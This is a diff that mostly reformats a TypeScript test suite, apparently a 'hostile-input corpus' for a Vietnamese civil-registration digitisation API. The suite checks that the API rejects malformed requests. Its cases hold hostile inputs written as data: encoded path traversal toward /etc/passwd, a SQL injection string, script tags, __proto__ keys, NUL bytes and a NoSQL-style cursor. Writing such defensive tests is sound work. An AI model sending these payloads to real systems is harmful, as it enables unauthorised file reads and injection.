+        headers: { 'content-type': 'application/json; charset=utf-16' },
+        body: Buffer.from('{"action":"returnToEntry"}', 'utf16le'),
+      }),
+    expect: invalid('body', 'Nội dung JSON không đọc được'),
+  },
+  {
+    category: 'headers',
+    name: 'Authorization with two tokens',
+    book: 'entry',
+    request: async (w) =>
+      raw(w, 'GET', B(w), { token: null, headers: { authorization: `Bearer ${await tokenOf('hotich.binhan')} ${await tokenOf('vanhanh')}` } }),
+    expect: GATEWAY_401,
+  },
+  {
+    category: 'headers',
+    name: 'body over the API Gateway limit (11 MB)',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, JSON.stringify({ action: 'returnToEntry', reason: 'x'.repeat(11 * 1024 * 1024) })),
+    expect: { status: 413, message: 'Request Entity Too Large' },
+  },
 
   // ---------------- path parameters
-  { category: 'path', name: 'book id with encoded path traversal ..%2F..%2Fetc%2Fpasswd', book: 'entry', request: (w) => raw(w, 'GET', '/books/..%2F..%2Fetc%2Fpasswd'), expect: invalid('path.bookId') },
-  { category: 'path', name: 'oversized book id (65 characters)', book: 'entry', request: (w) => raw(w, 'GET', `/books/${'9'.repeat(65)}`), expect: invalid('path.bookId') },
+  {
+    category: 'path',
+    name: 'book id with encoded path traversal ..%2F..%2Fetc%2Fpasswd',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', '/books/..%2F..%2Fetc%2Fpasswd'),
+    expect: invalid('path.bookId'),
+  },
+  {
+    category: 'path',
+    name: 'oversized book id (65 characters)',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', `/books/${'9'.repeat(65)}`),
+    expect: invalid('path.bookId'),
+  },
   { category: 'path', name: 'book id with a NUL byte (%00)', book: 'entry', request: (w) => raw(w, 'GET', `${B(w)}%00`), expect: invalid('path.bookId') },
   { category: 'path', name: 'book id "__proto__"', book: 'entry', request: (w) => raw(w, 'GET', '/books/__proto__'), expect: invalid('path.bookId') },
-  { category: 'path', name: 'book id with broken percent-encoding (%E0%A4%A)', book: 'entry', request: (w) => raw(w, 'GET', '/books/90101-KS-1.2018-2018%E0%A4%A'), expect: invalid('path.bookId', 'Tham số đường dẫn không hợp lệ') },
-  { category: 'path', name: 'book id with fullwidth digits (unicode look-alike)', book: 'entry', request: (w) => raw(w, 'GET', `/books/${encodeURIComponent(w.entryBook.bookId.replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d))))}`), expect: invalid('path.bookId') },
-  { category: 'path', name: 'upload id that is not a UUID', book: 'entry', request: (w) => raw(w, 'GET', `${B(w)}/uploads/..%2F..%2Fx/parts`), expect: invalid('path.uploadId') },
-  { category: 'path', name: 'registration number "__proto__"', book: 'scan', request: (w) => raw(w, 'GET', `${S(w)}/records/__proto__`), expect: invalid('path.so') },
-  { category: 'path', name: 'registration number too large (9999999-2018)', book: 'scan', request: (w) => raw(w, 'GET', `${S(w)}/records/9999999-2018`), expect: invalid('path.so') },
-  { category: 'path', name: 'execution ARN that is not an ARN', book: 'entry', request: async (w) => raw(w, 'GET', '/ops/executions/%3Cscript%3E/history', { token: await tokenOf('vanhanh') }), expect: invalid('path.executionArn') },
-  { category: 'path', name: 'well-formed execution ARN that does not exist', book: 'entry', request: async (w) => raw(w, 'GET', '/ops/executions/arn:aws:states:ap-southeast-1:000000000000:execution:khong-co:khong-co/history', { token: await tokenOf('vanhanh') }), expect: { status: 404, error: 'NotFound', message: 'Không tìm thấy lượt xử lý' } },
-  { category: 'path', name: 'completing an upload id that was never issued', book: 'entry', request: (w) => raw(w, 'POST', `${B(w)}/uploads/0f8fad5b-d9cb-469f-a165-70867728950e/complete`), expect: { status: 404, error: 'NotFound', message: 'Không có lượt tải lên nhiều phần này' } },
-  { category: 'path', name: 'a method the route table does not have (DELETE /books/{id})', book: 'entry', request: (w) => raw(w, 'DELETE', B(w)), expect: { status: 404, message: 'Not Found' } },
-  { category: 'path', name: 'empty path segment (/books//actions)', book: 'entry', request: (w) => raw(w, 'POST', '/books//actions', { headers: { 'content-type': 'application/json' }, body: '{"action":"startDigitisation"}' }), expect: { status: 404, message: 'Not Found' } },
-  { category: 'path', name: 'unit code with SQL injection', book: 'entry', request: (w) => raw(w, 'GET', `/units/${encodeURIComponent("90101' OR 1=1--")}/review-policy`), expect: invalid('path.unitCode') },
-  { category: 'path', name: 'template file with path traversal', book: 'entry', request: (w) => raw(w, 'GET', '/templates/..%2F..%2Fpackage.json'), expect: invalid('path.file', 'Dữ liệu gửi lên không hợp lệ') },
+  {
+    category: 'path',
+    name: 'book id with broken percent-encoding (%E0%A4%A)',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', '/books/90101-KS-1.2018-2018%E0%A4%A'),
+    expect: invalid('path.bookId', 'Tham số đường dẫn không hợp lệ'),
+  },
+  {
+    category: 'path',
+    name: 'book id with fullwidth digits (unicode look-alike)',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', `/books/${encodeURIComponent(w.entryBook.bookId.replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d))))}`),
+    expect: invalid('path.bookId'),
+  },
+  {
+    category: 'path',
+    name: 'upload id that is not a UUID',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', `${B(w)}/uploads/..%2F..%2Fx/parts`),
+    expect: invalid('path.uploadId'),
+  },
+  {
+    category: 'path',
+    name: 'registration number "__proto__"',
+    book: 'scan',
+    request: (w) => raw(w, 'GET', `${S(w)}/records/__proto__`),
+    expect: invalid('path.so'),
+  },
+  {
+    category: 'path',
+    name: 'registration number too large (9999999-2018)',
+    book: 'scan',
+    request: (w) => raw(w, 'GET', `${S(w)}/records/9999999-2018`),
+    expect: invalid('path.so'),
+  },
+  {
+    category: 'path',
+    name: 'execution ARN that is not an ARN',
+    book: 'entry',
+    request: async (w) => raw(w, 'GET', '/ops/executions/%3Cscript%3E/history', { token: await tokenOf('vanhanh') }),
+    expect: invalid('path.executionArn'),
+  },
+  {
+    category: 'path',
+    name: 'well-formed execution ARN that does not exist',
+    book: 'entry',
+    request: async (w) =>
+      raw(w, 'GET', '/ops/executions/arn:aws:states:ap-southeast-1:000000000000:execution:khong-co:khong-co/history', { token: await tokenOf('vanhanh') }),
+    expect: { status: 404, error: 'NotFound', message: 'Không tìm thấy lượt xử lý' },
+  },
+  {
+    category: 'path',
+    name: 'completing an upload id that was never issued',
+    book: 'entry',
+    request: (w) => raw(w, 'POST', `${B(w)}/uploads/0f8fad5b-d9cb-469f-a165-70867728950e/complete`),
+    expect: { status: 404, error: 'NotFound', message: 'Không có lượt tải lên nhiều phần này' },
+  },
+  {
+    category: 'path',
+    name: 'a method the route table does not have (DELETE /books/{id})',
+    book: 'entry',
+    request: (w) => raw(w, 'DELETE', B(w)),
+    expect: { status: 404, message: 'Not Found' },
+  },
+  {
+    category: 'path',
+    name: 'empty path segment (/books//actions)',
+    book: 'entry',
+    request: (w) => raw(w, 'POST', '/books//actions', { headers: { 'content-type': 'application/json' }, body: '{"action":"startDigitisation"}' }),
+    expect: { status: 404, message: 'Not Found' },
+  },
+  {
+    category: 'path',
+    name: 'unit code with SQL injection',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', `/units/${encodeURIComponent("90101' OR 1=1--")}/review-policy`),
+    expect: invalid('path.unitCode'),
+  },
+  {
+    category: 'path',
+    name: 'template file with path traversal',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', '/templates/..%2F..%2Fpackage.json'),
+    expect: invalid('path.file', 'Dữ liệu gửi lên không hợp lệ'),
+  },
 
   // ---------------- query parameters
   { category: 'query', name: 'negative limit', book: 'scan', request: (w) => raw(w, 'GET', `${S(w)}/records?limit=-1`), expect: invalid('query.limit') },
-  { category: 'query', name: 'huge limit (1e9)', book: 'scan', request: (w) => raw(w, 'GET', `${S(w)}/records?limit=1000000000`), expect: invalid('query.limit') },
+  {
+    category: 'query',
+    name: 'huge limit (1e9)',
+    book: 'scan',
+    request: (w) => raw(w, 'GET', `${S(w)}/records?limit=1000000000`),
+    expect: invalid('query.limit'),
+  },
   { category: 'query', name: 'non-numeric limit', book: 'scan', request: (w) => raw(w, 'GET', `${S(w)}/records?limit=abc`), expect: invalid('query.limit') },
-  { category: 'query', name: 'repeated limit (limit=1&limit=2)', book: 'scan', request: (w) => raw(w, 'GET', `${S(w)}/records?limit=1&limit=2`), expect: invalid('query.limit') },
+  {
+    category: 'query',
+    name: 'repeated limit (limit=1&limit=2)',
+    book: 'scan',
+    request: (w) => raw(w, 'GET', `${S(w)}/records?limit=1&limit=2`),
+    expect: invalid('query.limit'),
+  },
   {
     category: 'query',
     name: "tampered cursor pointing into another book's records",
@@ -412,16 +1283,70 @@ const cases: Case[] = [
     request: (w) => raw(w, 'GET', `${S(w)}/records?cursor=${b64url({ PK: `BOOK#${w.entryBook.bookId}`, SK: 'REC#2018#000001' })}`),
     expect: { status: 400, error: 'InvalidInput', message: 'Con trỏ phân trang không hợp lệ', issue: 'query.cursor' },
   },
-  { category: 'query', name: 'cursor that is not base64 JSON', book: 'scan', request: (w) => raw(w, 'GET', `${S(w)}/records?cursor=%7B%22%24ne%22%3Anull%7D`), expect: { status: 400, error: 'InvalidInput', message: 'Con trỏ phân trang không hợp lệ', issue: 'query.cursor' } },
-  { category: 'query', name: 'oversized cursor (2 kB)', book: 'scan', request: (w) => raw(w, 'GET', `${S(w)}/records?cursor=${'A'.repeat(2048)}`), expect: invalid('query.cursor') },
-  { category: 'query', name: 'tampered execution-list nextToken', book: 'entry', request: async (w) => raw(w, 'GET', `/ops/executions?nextToken=${b64url({ scope: 'other', position: -5 })}`, { token: await tokenOf('vanhanh') }), expect: { status: 400, error: 'InvalidInput', message: 'Mã trang tiếp theo (nextToken) không hợp lệ', issue: 'query.nextToken' } },
+  {
+    category: 'query',
+    name: 'cursor that is not base64 JSON',
+    book: 'scan',
+    request: (w) => raw(w, 'GET', `${S(w)}/records?cursor=%7B%22%24ne%22%3Anull%7D`),
+    expect: { status: 400, error: 'InvalidInput', message: 'Con trỏ phân trang không hợp lệ', issue: 'query.cursor' },
+  },
+  {
+    category: 'query',
+    name: 'oversized cursor (2 kB)',
+    book: 'scan',
+    request: (w) => raw(w, 'GET', `${S(w)}/records?cursor=${'A'.repeat(2048)}`),
+    expect: invalid('query.cursor'),
+  },
+  {
+    category: 'query',
+    name: 'tampered execution-list nextToken',
+    book: 'entry',
+    request: async (w) => raw(w, 'GET', `/ops/executions?nextToken=${b64url({ scope: 'other', position: -5 })}`, { token: await tokenOf('vanhanh') }),
+    expect: { status: 400, error: 'InvalidInput', message: 'Mã trang tiếp theo (nextToken) không hợp lệ', issue: 'query.nextToken' },
+  },
   { category: 'query', name: 'unknown parameter __proto__', book: 'entry', request: (w) => raw(w, 'GET', '/books?__proto__=x'), expect: invalid('query') },
-  { category: 'query', name: 'stage that does not exist', book: 'entry', request: (w) => raw(w, 'GET', '/books?stage=%3Cscript%3E'), expect: invalid('query.stage') },
-  { category: 'query', name: 'week 99 of a year', book: 'entry', request: (w) => raw(w, 'GET', '/reports/weekly?week=2026-W99'), expect: invalid('query.week') },
-  { category: 'query', name: 'unit "__proto__" in the book list', book: 'entry', request: (w) => raw(w, 'GET', '/books?unit=__proto__'), expect: { status: 403, error: 'Forbidden', message: 'Bạn không có quyền với đơn vị này' } },
-  { category: 'query', name: 'unit with a NUL byte in the review queue', book: 'entry', request: (w) => raw(w, 'GET', '/review/queue?unit=90101%00'), expect: { status: 403, error: 'Forbidden', message: 'Bạn không có quyền với đơn vị này' } },
-  { category: 'query', name: 'oversized unit value (10,000 characters)', book: 'entry', request: (w) => raw(w, 'GET', `/books?unit=${'9'.repeat(10_000)}`), expect: invalid('query.unit') },
-  { category: 'query', name: 'month 13', book: 'entry', request: (w) => raw(w, 'GET', '/reconciliation/monthly?month=2026-13'), expect: invalid('query.month') },
+  {
+    category: 'query',
+    name: 'stage that does not exist',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', '/books?stage=%3Cscript%3E'),
+    expect: invalid('query.stage'),
+  },
+  {
+    category: 'query',
+    name: 'week 99 of a year',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', '/reports/weekly?week=2026-W99'),
+    expect: invalid('query.week'),
+  },
+  {
+    category: 'query',
+    name: 'unit "__proto__" in the book list',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', '/books?unit=__proto__'),
+    expect: { status: 403, error: 'Forbidden', message: 'Bạn không có quyền với đơn vị này' },
+  },
+  {
+    category: 'query',
+    name: 'unit with a NUL byte in the review queue',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', '/review/queue?unit=90101%00'),
+    expect: { status: 403, error: 'Forbidden', message: 'Bạn không có quyền với đơn vị này' },
+  },
+  {
+    category: 'query',
+    name: 'oversized unit value (10,000 characters)',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', `/books?unit=${'9'.repeat(10_000)}`),
+    expect: invalid('query.unit'),
+  },
+  {
+    category: 'query',
+    name: 'month 13',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', '/reconciliation/monthly?month=2026-13'),
+    expect: invalid('query.month'),
+  },
 ];
 
 // ---------------------------------------------------------------- stored state around each case
@@ -460,7 +1385,15 @@ async function snapshot(scope: Scope): Promise<Snapshot> {
     const out: Record<string, any>[] = [];
     let start: Record<string, unknown> | undefined;
     do {
-      const r = await ddb.send(new QueryCommand({ TableName: table, KeyConditionExpression: 'PK = :pk', ExpressionAttributeValues: { ':pk': pk }, ExclusiveStartKey: start, ConsistentRead: true }));
+      const r = await ddb.send(
+        new QueryCommand({
+          TableName: table,
+          KeyConditionExpression: 'PK = :pk',
+          ExpressionAttributeValues: { ':pk': pk },
+          ExclusiveStartKey: start,
+          ConsistentRead: true,
+        }),
+      );
       out.push(...(r.Items ?? []));
       start = r.LastEvaluatedKey;
     } while (start);
@@ -486,7 +1419,8 @@ const ALLOWED_AUDIT = new Set(['upload.requested', 'upload.received', 'entry.rej
 
 /** Every change between two snapshots that is not the recorded rejection of `uploadId` (none allowed without one). */
 function unexpectedChanges(before: Snapshot, after: Snapshot, uploadId?: string): string[] {
-  const own = (key: string) => uploadId !== undefined && [`UPLOAD#${uploadId}`, `ENTRYREPORT#${uploadId}`, `SCANREPORT#${uploadId}`].includes(key.split(' ')[1]!);
+  const own = (key: string) =>
+    uploadId !== undefined && [`UPLOAD#${uploadId}`, `ENTRYREPORT#${uploadId}`, `SCANREPORT#${uploadId}`].includes(key.split(' ')[1]!);
   const out: string[] = [];
   for (const [k, v] of after.state) if (before.state.get(k) !== v && !own(k)) out.push(`state ${before.state.has(k) ? 'changed' : 'added'}: ${k}`);
   for (const k of before.state.keys()) if (!after.state.has(k)) out.push(`state deleted: ${k}`);
@@ -517,7 +1451,12 @@ function target(w: World, c: FileCase) {
 async function deliver(w: World, c: FileCase): Promise<string> {
   const bytes = await c.file(w);
   const t = target(w, c);
-  const req = await t.uploader.post(t.requestPath, { ...(c.kind === 'extract' ? {} : { kind: c.kind }), fileName: c.fileName, contentType: c.contentType, size: bytes.length });
+  const req = await t.uploader.post(t.requestPath, {
+    ...(c.kind === 'extract' ? {} : { kind: c.kind }),
+    fileName: c.fileName,
+    contentType: c.contentType,
+    size: bytes.length,
+  });
   expect(req.status, JSON.stringify(req.body)).toBe(201);
   expect((await postForm(req.body, bytes, c.fileName, c.contentType)).status).toBe(204);
   return req.body.uploadId as string;
@@ -525,11 +1464,15 @@ async function deliver(w: World, c: FileCase): Promise<string> {
 
 /** The upload's item once processing is over (final status), with the whole snapshot of that moment. */
 async function settled(scope: Scope, container: string, uploadId: string) {
-  return waitFor(async () => {
-    const snap = await snapshot(scope);
-    const upload = JSON.parse(snap.state.get(`BOOK#${container} UPLOAD#${uploadId}`) ?? '{}');
-    return upload.status === 'rejected' || upload.status === 'accepted' ? { snap, upload } : undefined;
-  }, `upload ${uploadId} final`, 60_000);
+  return waitFor(
+    async () => {
+      const snap = await snapshot(scope);
+      const upload = JSON.parse(snap.state.get(`BOOK#${container} UPLOAD#${uploadId}`) ?? '{}');
+      return upload.status === 'rejected' || upload.status === 'accepted' ? { snap, upload } : undefined;
+    },
+    `upload ${uploadId} final`,
+    60_000,
+  );
 }
 
 async function runFileCase(w: World, c: FileCase) {
@@ -548,17 +1491,23 @@ async function runFileCase(w: World, c: FileCase) {
   }
   const reader = c.kind === 'entry' ? w.clerk : w.contractor;
   const reportPath = `/books/${t.container}/${c.kind === 'entry' ? 'entry-report' : 'scan-report'}`;
-  const report = await waitFor(async () => {
-    const r = await reader.get(reportPath);
-    return r.status === 200 && r.body.uploadId === uploadId ? r.body : undefined;
-  }, `${c.kind} report of ${c.name}`, 60_000);
+  const report = await waitFor(
+    async () => {
+      const r = await reader.get(reportPath);
+      return r.status === 200 && r.body.uploadId === uploadId ? r.body : undefined;
+    },
+    `${c.kind} report of ${c.name}`,
+    60_000,
+  );
   if ('fileError' in e) {
     expect(report.status).toBe('rejected');
     expect(report.fileError?.code).toBe(e.fileError);
     expect(report.fileError.message).toMatch(VIETNAMESE);
   } else if ('ruleId' in e) {
     expect(report.status).toBe('rejected');
-    const hit = (report.issues as { ruleId: string; severity: string; column?: string; message: string }[]).find((i) => i.ruleId === e.ruleId && (e.column === undefined || i.column === e.column));
+    const hit = (report.issues as { ruleId: string; severity: string; column?: string; message: string }[]).find(
+      (i) => i.ruleId === e.ruleId && (e.column === undefined || i.column === e.column),
+    );
     expect(hit, JSON.stringify(report.issues).slice(0, 600)).toBeDefined();
     expect(hit!.severity).toBe('error');
     expect(hit!.message).toMatch(VIETNAMESE);
@@ -622,7 +1571,9 @@ let world: World;
 
 describe('hostile-input corpus', () => {
   beforeAll(async () => {
-    const [officer, clerk, contractor, police, ops] = await Promise.all(['hotich.binhan', 'nhaplieu.binhan', 'scan.binhan', 'congan.binhan', 'vanhanh'].map((u) => asUser(u)));
+    const [officer, clerk, contractor, police, ops] = await Promise.all(
+      ['hotich.binhan', 'nhaplieu.binhan', 'scan.binhan', 'congan.binhan', 'vanhanh'].map((u) => asUser(u)),
+    );
     const quyenSo = `${Math.floor(Math.random() * 9000) + 1}/2016`;
     const entryBookId = await createBook(officer!, { quyenSo, yearOpened: 2016, closingTotal: 3 });
     await act(officer!, entryBookId, 'startDigitisation');
@@ -654,7 +1605,8 @@ describe('hostile-input corpus', () => {
     console.log(`hostile-input corpus: ${results.size} cases tried, ${passed} passed (${perCategory.join(', ')})`);
     // HOSTILE_CORPUS_TABLE=1 also prints the rows of the table in docs/reliability.md.
     const md = (t: string) => t.replace(/[\\|*_<>`[\]]/g, '\\$&');
-    if (process.env.HOSTILE_CORPUS_TABLE) for (const c of cases) console.log(`| ${c.category} | ${md(c.name)} | ${describeExpected(c).replace(/\|/g, '\\|')} |`);
+    if (process.env.HOSTILE_CORPUS_TABLE)
+      for (const c of cases) console.log(`| ${c.category} | ${md(c.name)} | ${describeExpected(c).replace(/\|/g, '\\|')} |`);
   });
 
   it('the stored-state comparison notices a write (guards every case below)', async () => {
@@ -662,7 +1614,10 @@ describe('hostile-input corpus', () => {
     const r = await world.clerk.post(`/books/${world.entryBook.bookId}/uploads`, { kind: 'entry', fileName: 'kiem-tra.xlsx', contentType: XLSX, size: 10 });
     expect(r.status).toBe(201);
     const after = await snapshot(bookScope(world.entryBook.bookId));
-    expect(unexpectedChanges(before, after)).toEqual([`state added: BOOK#${world.entryBook.bookId} UPLOAD#${r.body.uploadId}`, expect.stringMatching(/^audit added: upload\.requested /)]);
+    expect(unexpectedChanges(before, after)).toEqual([
+      `state added: BOOK#${world.entryBook.bookId} UPLOAD#${r.body.uploadId}`,
+      expect.stringMatching(/^audit added: upload\.requested /),
+    ]);
     expect(unexpectedChanges(before, after, r.body.uploadId)).toEqual([]);
   });
 
